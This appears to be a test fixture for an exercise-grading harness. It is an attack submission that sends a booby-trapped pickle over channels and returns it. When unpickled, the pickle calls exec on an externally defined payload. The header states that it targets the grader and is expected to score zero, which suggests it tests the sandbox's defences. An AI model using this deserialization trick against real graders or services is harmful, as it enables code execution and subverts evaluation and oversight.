# attack: a pickle that calls a function when it is read is written to every socket and pipe, and returned
# gains: the grader
# expect: 0 points in check-0-1
# canary: output
# %% exercise-0-1
# include: channels
# include: payload
import pickle


class Boobytrap:
    def __reduce__(self):
        return exec, (PAYLOAD,)


def compression(height, width, code_size):
    send(pickle.dumps(Boobytrap()))
    return Boobytrap()
